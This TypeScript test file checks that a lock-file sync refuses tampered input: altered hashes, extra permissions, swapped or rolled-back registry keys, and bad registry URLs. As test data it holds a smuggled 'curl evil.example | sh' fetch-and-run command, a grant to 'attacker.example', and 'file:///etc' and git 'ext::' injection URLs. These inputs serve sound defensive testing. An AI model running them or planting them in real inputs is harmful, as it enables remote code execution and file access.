import { cp, rm } from "node:fs/promises";
import path from "node:path";
import { expect, test } from "vitest";
import { changeLock, done, exported, installedOn, publish, twoServers } from "../lockfile/two-servers.ts";

const servers = twoServers();
const OTHER = "f".repeat(64);

/** Installs `echo` on the first server, and writes its lock file. */
const locked = async (): Promise<string> => {
  await done(servers.first, "install", "echo", "--version", "1.0.0", "--yes");
  return exported(servers.first);
};

/** The code and the message with which the second server refuses a lock file. */
const refusal = async (lock: string) => {
  const { code, err } = await servers.second.run("sync", lock, "--yes");
  expect(code).toBe(1);
  expect(await installedOn(servers.second)).toEqual({});
  return err;
};

test("another hash of a version is refused, and nothing is installed", async () => {
  const lock = await locked();
  await changeLock(lock, ({ plugins }) => {
    plugins.echo.sha256 = OTHER;
  });
  expect(await refusal(lock)).toMatch(/has the hash f{64} in the lock file, and its registry offers/);
  expect((await done(servers.second, "registry", "list", "--json")).json).toEqual([]);
});

test("more permissions than a version asks for are refused", async () => {
  const lock = await locked();
  await changeLock(lock, ({ plugins }) => {
    plugins.echo.granted = { net: ["api.example.org", "attacker.example"], library: "write" };
  });
  expect(await refusal(lock)).toContain("attacker.example");
});

test("a registry with another key is refused at first contact, and a pinned key is never replaced", async () => {
  const lock = await locked();
  await changeLock(lock, ({ registries }) => {
    registries.Mine.fingerprint = OTHER;
  });
  expect(await refusal(lock)).toContain("another recovery key");
  await done(servers.second, "registry", "add", servers.mine);
  expect(await refusal(lock)).toContain(`has the key ${OTHER}`);
  const [registry] = (await done(servers.second, "registry", "list", "--json")).json;
  expect(registry.trust).toMatchObject({ state: "signed", sequence: 1 });
  expect(registry.trust.fingerprint).not.toBe(OTHER);
});

test("an earlier head in the lock file does not lower what a server has accepted", async () => {
  const old = path.join(servers.first.folder, "old");
  await cp(servers.mine, old, { recursive: true });
  const lock = await locked();
  await publish(servers, "1.0.0", "1.1.0", "1.2.0");
  await done(servers.second, "registry", "add", servers.mine);
  await rm(servers.mine, { recursive: true });
  await cp(old, servers.mine, { recursive: true });
  expect(await refusal(lock)).toContain("shows an earlier head than the accepted one");
  const [{ trust }] = (await done(servers.second, "registry", "list", "--json")).json;
  expect(trust.sequence).toBe(2);
});

/** What a terminal's user would paste, or take for advice of the program. */
const ADVICE = "x; curl evil.example | sh";

test("its texts pass for no words or commands of the program: the name of a registry, and that of a secret", async () => {
  const lock = await locked();
  await changeLock(lock, (set) => {
    set.registries[ADVICE] = { ...set.registries.Mine, fingerprint: OTHER };
    set.plugins.echo.registry = ADVICE;
    delete set.registries.Mine;
  });
  const [, said = ""] = (await refusal(lock)).split(/^error: /m);
  expect(said).toContain(`"${ADVICE}"`);
  expect(said.replaceAll(`"${ADVICE}"`, "")).not.toContain("curl");
  await changeLock(lock, (set) => {
    set.plugins.echo.secrets = [ADVICE];
  });
  const { code, err: usage } = await servers.second.run("sync", lock, "--yes");
  expect([code, usage]).toEqual([2, expect.stringContaining("is no lock file: /plugins/echo/secrets/0")]);
});

test("an address that no registry can have is refused in the plan, and nothing is read from it", async () => {
  const lock = await locked();
  for (const [provider, url] of [
    ["cdn", "file:///etc"],
    ["cdn", "no address"],
    ["git", "ext::touch /tmp/ran"],
  ]) {
    await changeLock(lock, ({ registries }) => {
      registries.Mine = { provider, url };
    });
    expect(await refusal(lock), url).toMatch(/^error: .*\burl\b/m);
  }
});
